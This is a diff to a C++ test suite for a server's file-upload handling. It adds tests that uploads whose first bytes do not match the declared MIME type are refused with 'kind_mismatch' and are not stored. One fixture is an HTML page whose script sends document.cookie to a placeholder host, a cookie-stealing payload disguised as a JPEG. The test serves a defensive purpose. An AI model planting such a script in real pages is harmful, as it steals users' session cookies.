@@ -82,6 +82,9 @@ std::string bytesOf(std::size_t n, unsigned seed)
         x ^= x << 5;
         c = static_cast<char>(x);
     }
+    // A JPEG's signature first: the server holds a file's first bytes to the
+    // kind its record says (entryOf says image/jpeg).
+    out.replace(0, std::min<std::size_t>(n, 3), std::string("\xFF\xD8\xFF").substr(0, std::min<std::size_t>(n, 3)));
     return out;
 }
 
@@ -632,7 +635,7 @@ TEST_P(BlobsTest, garbageCollectionSparesAFileListedAgainSinceItWasFoundExpired)
     {
         // …and lists it again just now: nothing is collected.
         auto tx = store.beginWrite();
-        tx->setBlobRefs(id, {{sha, static_cast<std::int64_t>(file.size())}}, 2000, "naka");
+        tx->setBlobRefs(id, {{sha, ListedBlob{static_cast<std::int64_t>(file.size()), "image/jpeg"}}}, 2000, "naka");
         tx->commit();
     }
     EXPECT_EQ(collectBlobs(store, 7 * 86400, 1000 + 30 * 86400).blobs, 0);
@@ -811,4 +814,51 @@ TEST_P(BlobsTest, chunksTravelAsOctetStreamsOverHttp)
     EXPECT_TRUE(got->body == file.substr(C));
     server.stop();
     thread.join();
+}
+
+TEST_P(BlobsTest, aFileWhoseFirstBytesAreNotTheKindItsRecordSaysIsRefusedAndNothingOfItIsKept)
+{
+    // A page of script listed as a photo by a client of its own making.
+    const std::string page = "<html><script>fetch('https://example.invalid/'+document.cookie)</script></html>";
+    const std::string sha = sha256Hex(page);
+    json entry = entryOf(page, "board.jpg");
+    createNote("naka", kNaka, {entry});
+    ApiResponse r = upload("naka", sha, 0, page);
+    EXPECT_EQ(r.status, 422) << r.body;
+    EXPECT_EQ(code(r), "kind_mismatch");
+    EXPECT_NE(json::parse(r.body)["error"]["message"].get<std::string>().find("image/jpeg"), std::string::npos);
+    EXPECT_EQ(status("naka", sha)["have"], json::array());
+    EXPECT_EQ(download("nakaReader", sha, 0).status, 404);
+
+    // A preview is a JPEG: a PNG, or anything else, under a thumb is refused too.
+    const std::string photo = bytesOf(5000, 41);
+    const std::string png = std::string("\x89PNG\r\n\x1A\n", 8) + bytesOf(200, 42);
+    entry = entryOf(photo, "flyer.jpg");
+    entry["thumb"] = sha256Hex(png);
+    createNote("naka", kNaka, {entry});
+    r = upload("naka", sha256Hex(png), 0, png);
+    EXPECT_EQ(r.status, 422) << r.body;
+    EXPECT_EQ(code(r), "kind_mismatch");
+    uploadAll("naka", photo); // the photo itself is what it says
+
+    // A file of a kind without a signature, or the kind it says, goes as before.
+    const std::string gif = "GIF89a" + bytesOf(300, 43).substr(6);
+    entry = entryOf(gif, "anim.gif");
+    entry["mime"] = "image/gif";
+    createNote("naka", kNaka, {entry});
+    uploadAll("naka", gif);
+    EXPECT_EQ(status("naka", sha256Hex(gif))["complete"], true);
+}
+
+TEST_P(BlobsTest, aFileListedAsTwoKindsIsHeldToBoth)
+{
+    // One record's field says JPEG, another's PNG: the bytes can be only one.
+    const std::string photo = bytesOf(4000, 44);
+    createNote("naka", kNaka, {entryOf(photo, "a.jpg")});
+    json asPng = entryOf(photo, "a.png");
+    asPng["mime"] = "image/png";
+    createNote("naka", kNaka, {asPng});
+    ApiResponse r = upload("naka", sha256Hex(photo), 0, photo);
+    EXPECT_EQ(r.status, 422) << r.body;
+    EXPECT_EQ(code(r), "kind_mismatch");
 }
